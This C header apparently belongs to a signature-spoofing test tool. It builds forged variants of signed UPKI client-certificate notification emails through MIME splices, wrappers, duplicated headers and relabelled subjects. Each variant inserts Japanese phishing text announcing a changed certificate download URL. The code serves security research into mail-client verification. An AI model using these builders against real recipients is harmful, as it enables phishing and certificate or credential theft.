/* attack-build.h - the structural attacks of upki-attack.c (splices of the
 * multipart/signed, wrappers, duplicated headers, relabels), one builder
 * per family; each returns a whole message or NULL when it does not apply
 * to the base.  Included once, by upki-attack.c.
 */
#ifndef UPKI_TOOLS_ATTACK_BUILD_H
#define UPKI_TOOLS_ATTACK_BUILD_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <glib.h>

#include "msgbuild.h"

#define DEFAULT_URL "https://scia.secomtrust.net/upki-odcert/download/view/jsp/SPEntranceCliAll.jsp" \
	"?p1=QXR0YWNrZXJUb2tlbkF0dGFja2VyVG9rZW5BdHRhY2tlclRva2VuQXR0YWNrZXI"

typedef struct attack_ctx {
	char *base_path, *out, *url, *kind, *ca_dir;
	gboolean resign, big;
	gint64 time;
	msgparts *m;
	const char *nl;
	GString *raw;
	GString *attacker; /* the attacker's text/plain entity */
	FILE *manifest;
	int count;
} attack_ctx;

typedef GString *(*attack_fn)(attack_ctx *c, const void *arg);

typedef struct attack_row {
	const char *name, *cls, *expect, *desc;
	attack_fn fn;
	const void *arg;
} attack_row;

static const char *const subjects[][2] = {
	{ "cert-issue", "[UPKI] クライアント証明書発行受付通知" },
	{ "pin-issue", "[UPKI] アクセスPIN発行通知" },
	{ "cert-retrieved", "[UPKI] クライアント証明書取得通知" },
	{ "cert-renewed", "[UPKI] クライアント証明書更新通知" },
	{ "cert-revoked", "[UPKI] クライアント証明書失効完了通知" },
};

/* ---- pieces --------------------------------------------------------------- */

static char *attacker_text(const attack_ctx *c)
{
	return g_strdup_printf("【重要】証明書取得URLが変更されました。下記のURLから取得してください。\n"
			       "証明書取得URL：%s\ncertificate acquisition URL: %s\n", c->url, c->url);
}

static GString *signed_entity(attack_ctx *c)
{
	return mb_base_entity(c->m);
}

static GString *with_top(attack_ctx *c, GString *entity)
{
	GString *g = mb_message(c->m, NULL, NULL, entity);

	g_string_free(entity, TRUE);
	return g;
}

/* A message whose top is multipart/SUB of the parts, consumed. */
static GString *top_multipart(attack_ctx *c, const char *sub, const char *b, GString **parts, guint n)
{
	GString *e = mb_multipart(c->nl, sub, b, parts, n);

	for (guint i = 0; i < n; i++)
		g_string_free(parts[i], TRUE);
	return with_top(c, e);
}

static GString *copy(const GString *g)
{
	return g_string_new_len(g->str, g->len);
}

/* ---- structural splices ------------------------------------------------- */

/* "--B" E NL <line> A NL "--B" S "--B--": line is an LF template where
 * '%' stands for the boundary, '^' for it with its letters' case swapped,
 * '\n' for the base's line end and '~' for a bare LF. */
static GString *a_splice(attack_ctx *c, const void *arg)
{
	const char *tmpl = arg;
	const char *b = c->m->boundary->str;
	GString *body = g_string_new(NULL);

	mb_cat(body, c->m->ctype);
	g_string_append_printf(body, "%s--%s%s", c->nl, b, c->nl);
	mb_cat(body, c->m->entity);
	g_string_append(body, c->nl);
	for (const char *p = tmpl; *p; p++) {
		if (*p == '%')
			g_string_append(body, b);
		else if (*p == '\n')
			g_string_append(body, c->nl);
		else if (*p == '~')
			g_string_append_c(body, '\n');
		else if (*p == '^')
			for (const char *q = b; *q; q++)
				g_string_append_c(body, g_ascii_isupper(*q) ? g_ascii_tolower(*q) : g_ascii_toupper(*q));
		else
			g_string_append_c(body, *p);
	}
	mb_cat(body, c->attacker);
	g_string_append_printf(body, "%s--%s%s", c->nl, b, c->nl);
	mb_cat(body, c->m->sigpart);
	g_string_append_printf(body, "%s--%s--%s", c->nl, b, c->nl);
	return with_top(c, body);
}

/* A line that only starts with the boundary, before the signed part. */
static GString *a_preamble_prefix(attack_ctx *c, const void *arg)
{
	(void)arg;
	const char *b = c->m->boundary->str;
	GString *e = g_string_new(NULL);

	mb_cat(e, c->m->ctype);
	g_string_append_printf(e, "%s--%sX%s", c->nl, b, c->nl);
	mb_cat(e, c->attacker);
	GString *body = mb_signed_body(c->nl, b, c->m->entity, c->m->sigpart);
	g_string_append(e, c->nl);
	mb_cat(e, body);
	g_string_free(body, TRUE);
	return with_top(c, e);
}

/* The multipart/signed with a third part: order is a string of E, A, S. */
static GString *a_three_parts(attack_ctx *c, const void *arg)
{
	const char *order = arg;
	const char *b = c->m->boundary->str;
	GString *e = g_string_new(NULL);

	mb_cat(e, c->m->ctype);
	g_string_append(e, c->nl);
	for (const char *p = order; *p; p++) {
		g_string_append_printf(e, "--%s%s", b, c->nl);
		mb_cat(e, *p == 'E' ? c->m->entity : *p == 'S' ? c->m->sigpart : c->attacker);
		g_string_append(e, c->nl);
	}
	g_string_append_printf(e, "--%s--%s", b, c->nl);
	return with_top(c, e);
}

/* Text before the first or after the last delimiter (RFC 2046 says
 * ignore it: readers agree, so this may stay genuine). */
static GString *a_pre_epilogue(attack_ctx *c, const void *arg)
{
	gboolean epilogue = arg != NULL;
	char *t = attacker_text(c);
	GString *text = g_string_new(NULL);
	GString *body = mb_signed_body(c->nl, c->m->boundary->str, c->m->entity, c->m->sigpart);
	GString *e = copy(c->m->ctype);

	mb_put(text, c->nl, t);
	g_string_append(e, c->nl);
	if (!epilogue)
		mb_cat(e, text);
	mb_cat(e, body);
	if (epilogue)
		mb_cat(e, text);
	g_free(t);
	g_string_free(text, TRUE);
	g_string_free(body, TRUE);
	return with_top(c, e);
}

/* ---- wrappers ------------------------------------------------------------- */

/* arg: "mixed-after", "alternative-before", ... (subtype, attacker place). */
static GString *a_beside(attack_ctx *c, const void *arg)
{
	const char *spec = arg;
	gboolean before = g_str_has_suffix(spec, "before");
	char *sub = g_strndup(spec, strcspn(spec, "-"));
	GString *parts[2] = { signed_entity(c), copy(c->attacker) };

	if (before) {
		GString *t = parts[0];
		parts[0] = parts[1];
		parts[1] = t;
	}
	GString *g = top_multipart(c, sub, "outer-attack-7f3a", parts, 2);
	g_free(sub);
	return g;
}

/* Outer boundary: "prefix" = B + "Z", "inner-prefix" = B less its tail,
 * "same" = B. */
static GString *a_outer_boundary(attack_ctx *c, const void *arg)
{
	const char *how = arg;
	const char *b = c->m->boundary->str;
	gsize bl = strlen(b);
	char *ob = strcmp(how, "prefix") == 0 ? g_strconcat(b, "Z", NULL)
		 : strcmp(how, "same") == 0 ? g_strdup(b) : g_strndup(b, bl > 4 ? bl - 4 : 1);
	GString *parts[2] = { signed_entity(c), copy(c->attacker) };
	GString *g = top_multipart(c, "mixed", ob, parts, 2);

	g_free(ob);
	return g;
}

/* A second multipart/signed whose signature is the base's, over the
 * attacker's text: it fails, next to one that passes. */
static GString *a_two_signed(attack_ctx *c, const void *arg)
{
	gboolean attacker_first = arg != NULL;
	GString *second = mb_signed_entity(c->nl, "second-signed-1", c->attacker, c->m->sigpart);
	GString *first = signed_entity(c);
	GString *parts[2] = { attacker_first ? second : first, attacker_first ? first : second };

	return top_multipart(c, "mixed", "two-signed-9c01", parts, 2);
}

static GString *a_two_copies(attack_ctx *c, const void *arg)
{
	(void)arg;
	GString *parts[2] = { signed_entity(c), signed_entity(c) };

	return top_multipart(c, "mixed", "two-copies-9c01", parts, 2);
}

static GString *a_rfc822(attack_ctx *c, const void *arg)
{
	(void)arg;
	GString *inner = g_string_new(NULL);

	mb_put(inner, c->nl, "Content-Type: message/rfc822\nContent-Disposition: inline\n\n");
	mb_cat(inner, c->raw);
	GString *parts[2] = { copy(c->attacker), inner };
	return top_multipart(c, "mixed", "rfc822-wrap-31", parts, 2);
}

/* ---- headers -------------------------------------------------------------- */

static char *encoded_subject(const char *kind)
{
	for (gsize i = 0; i < G_N_ELEMENTS(subjects); i++)
		if (strcmp(subjects[i][0], kind) == 0) {
			char *b64 = g_base64_encode((const guchar *)subjects[i][1], strlen(subjects[i][1]));
			char *s = g_strdup_printf("=?UTF-8?B?%s?=", b64);
			g_free(b64);
			return s;
		}
	return NULL;
}

/* arg: "FIELD|FIRST|SECOND": the top-level FIELD written twice, "=" for
 * the base's own field ("" when it has none). */
static GString *a_dup_header(attack_ctx *c, const void *arg)
{
	char **f = g_strsplit(arg, "|", 3);
	gboolean is_ct = g_ascii_strcasecmp(f[0], "Content-Type") == 0;
	const GString *orig = mp_field(c->m, f[0]);
	const char *drop[] = { "Content-Type", "Content-Transfer-Encoding", f[0], NULL };
	GString *g = mp_headers_without(c->m, drop);
	GString *e;

	for (int i = 1; i <= 2; i++) {
		if (strcmp(f[i], "=") == 0 && orig)
			mb_cat(g, orig);
		else if (strcmp(f[i], "=") != 0)
			g_string_append_printf(g, "%s: %s%s", f[0], f[i], c->nl);
	}
	if (is_ct) {
		/* The body is text to a reader that takes the other Content-Type:
		 * the attacker's text stands in the preamble, which MIME skips. */
		char *t = attacker_text(c);
		GString *body = mb_signed_body(c->nl, c->m->boundary->str, c->m->entity, c->m->sigpart);
		e = g_string_new(c->nl);
		mb_put(e, c->nl, t);
		g_string_append(e, c->nl);
		mb_cat(e, body);
		g_string_free(body, TRUE);
		g_free(t);
	} else {
		e = signed_entity(c);
	}
	mb_cat(g, e);
	g_string_free(e, TRUE);
	g_strfreev(f);
	return g;
}

/* arg: the two header lines of the attacker's part (LF template); the
 * body is base64 when a CTE line says so. */
static GString *a_dup_part_header(attack_ctx *c, const void *arg)
{
	const char *hdr = arg;
	char *t = attacker_text(c);
	GString *p = g_string_new(NULL);

	mb_put(p, c->nl, hdr);
	g_string_append(p, c->nl);
	if (strstr(hdr, "base64")) {
		char *b = g_base64_encode((const guchar *)t, strlen(t));
		g_string_append(p, b);
		g_free(b);
	} else {
		mb_put(p, c->nl, t);
	}
	g_free(t);
	GString *parts[2] = { signed_entity(c), p };
	return top_multipart(c, "mixed", "dup-part-5e1", parts, 2);
}

static GString *a_relabel(attack_ctx *c, const void *arg)
{
	char *s = encoded_subject(arg);
	char *line = g_strdup_printf("Subject: %s\n", s);
	const char *drop[] = { "Subject", NULL };
	GString *e = signed_entity(c);
	GString *g = mb_message(c->m, drop, line, e);

	g_string_free(e, TRUE);
	g_free(line);
	g_free(s);
	return g;
}

static GString *a_date(attack_ctx *c, const void *arg)
{
	const char *drop[] = { "Date", NULL };
	char *line = *(const char *)arg ? g_strdup_printf("Date: %s\n", (const char *)arg) : NULL;
	GString *e = signed_entity(c);
	GString *g = mb_message(c->m, drop, line, e);

	g_string_free(e, TRUE);
	g_free(line);
	return g;
}


#endif
